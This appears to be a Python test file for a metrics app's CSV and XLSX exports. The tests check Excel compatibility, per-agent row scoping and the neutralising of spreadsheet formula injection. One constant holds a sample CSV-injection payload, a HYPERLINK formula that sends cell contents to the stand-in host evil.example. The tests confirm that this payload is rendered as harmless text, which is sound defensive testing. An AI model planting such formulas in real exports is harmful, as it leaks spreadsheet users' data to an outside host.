"""Exports of a breakdown: CSV that Excel opens (BOM) and XLSX, both safe against formulas."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import openpyxl
from fastapi.testclient import TestClient
from sqlalchemy import Engine

from kontrol.accounts.workspaces import Workspace
from kontrol.ingest.importing import import_file
from kontrol.metrics.exports import ExportTable, defuse, to_csv, to_xlsx
from tests.factories import log_in
from tests.webapp import record

NOVEMBER = "period=month&date_from=2026-11-01&date_to=2026-11-30"
EVIL_TEAM = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def add_evil_team(engine: Engine, workspace: Workspace, tmp_path: Path) -> None:
    path = tmp_path / "evil.jsonl"
    item = record(
        "i9",
        agent="a9",
        team=EVIL_TEAM,
        started="2026-11-06T10:00:00+00:00",
        text="Здравствуйте",
        topic="@SUM(1+1)",
        csat=4,
    )
    path.write_text(json.dumps(item, ensure_ascii=False) + "\n", encoding="utf-8")
    import_file(engine=engine, workspace=workspace, path=path)


def test_csv_export_of_the_breakdown(
    client: TestClient, engine: Engine, populated: Workspace, tmp_path: Path
) -> None:
    add_evil_team(engine, populated, tmp_path)
    log_in(client, "admin")
    answer = client.get(f"/dashboard?{NOVEMBER}&by=team&format=csv")
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert "attachment" in answer.headers["content-disposition"]
    assert answer.content.startswith(b"\xef\xbb\xbf")
    # Russian Excel: ";" between cells, headings all in Russian.
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))
    heading = rows[0]
    assert heading[0] == "Группа"
    contacts = next(i for i, name in enumerate(heading) if name.endswith("(шт.)"))
    by_team = {row[0]: row for row in rows[1:]}
    assert by_team["L1"][contacts] == "3"
    assert by_team["L2"][contacts] == "1"
    # The formula is text in a spreadsheet: it starts with an apostrophe.
    assert by_team["'" + EVIL_TEAM][contacts] == "1"
    assert rows[-1][0] == "Всего"
    assert rows[-1][contacts] == "5"


def test_xlsx_export_keeps_numbers_as_numbers(
    client: TestClient, engine: Engine, populated: Workspace, tmp_path: Path
) -> None:
    add_evil_team(engine, populated, tmp_path)
    log_in(client, "admin")
    answer = client.get(f"/dashboard?{NOVEMBER}&by=topic&format=xlsx")
    assert answer.status_code == 200
    assert "spreadsheetml" in answer.headers["content-type"]
    sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
    values = list(sheet.iter_rows(values_only=True))
    heading = values[0]
    assert heading[0] == "Тема"
    contacts = next(i for i, name in enumerate(heading) if str(name).endswith("(шт.)"))
    # A topic in words, its code beside it for joining with other data.
    assert heading[1] == "Код темы"
    by_topic = {row[0]: row for row in values[1:]}
    assert by_topic["Доставка"][1] == "delivery"
    assert by_topic["Доставка"][contacts] == 3
    assert isinstance(by_topic["Доставка"][contacts], int | float)
    assert "'@SUM(1+1)" in by_topic
    # No cell of the workbook is a formula.
    assert all(
        cell.data_type != "f" for row in sheet.iter_rows() for cell in row if cell.value is not None
    )


def test_agent_export_holds_only_their_own_row(client: TestClient, populated: Workspace) -> None:
    log_in(client, "agent1")
    answer = client.get(f"/dashboard?{NOVEMBER}&format=csv")
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))
    # Without a name in the roster the agent is known by their id.
    assert [row[:2] for row in rows[1:]] == [["a1", "a1"], ["Всего", ""]]


def test_defuse_only_touches_formula_starts() -> None:
    assert defuse("=1+1") == "'=1+1"
    assert defuse("+7 999") == "'+7 999"
    assert defuse("-5") == "'-5"
    assert defuse("@cmd") == "'@cmd"
    assert defuse("\t=1") == "'\t=1"
    assert defuse("Линия 1") == "Линия 1"
    assert defuse("") == ""


def test_writers_handle_empty_cells_and_odd_titles() -> None:
    table = ExportTable(
        title="by: agent [2026/11]*?", headings=["a", "b"], rows=[["x", None], [None, 2.5]]
    )
    text = to_csv(table, "en").decode("utf-8-sig")
    assert text.splitlines() == ["a,b", "x,", ",2.5"]
    # Russian Excel: the semicolon between cells, the decimal comma, two places.
    russian = ExportTable(title="t", headings=["a", "b"], rows=[["x", 38.12345], [None, 2.5]])
    assert to_csv(russian, "ru").decode("utf-8-sig").splitlines() == ["a;b", "x;38,12", ";2,5"]
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(table)))
    assert book.sheetnames == ["by  agent  2026 11"]
    assert list(book.active.iter_rows(values_only=True)) == [("a", "b"), ("x", None), (None, 2.5)]
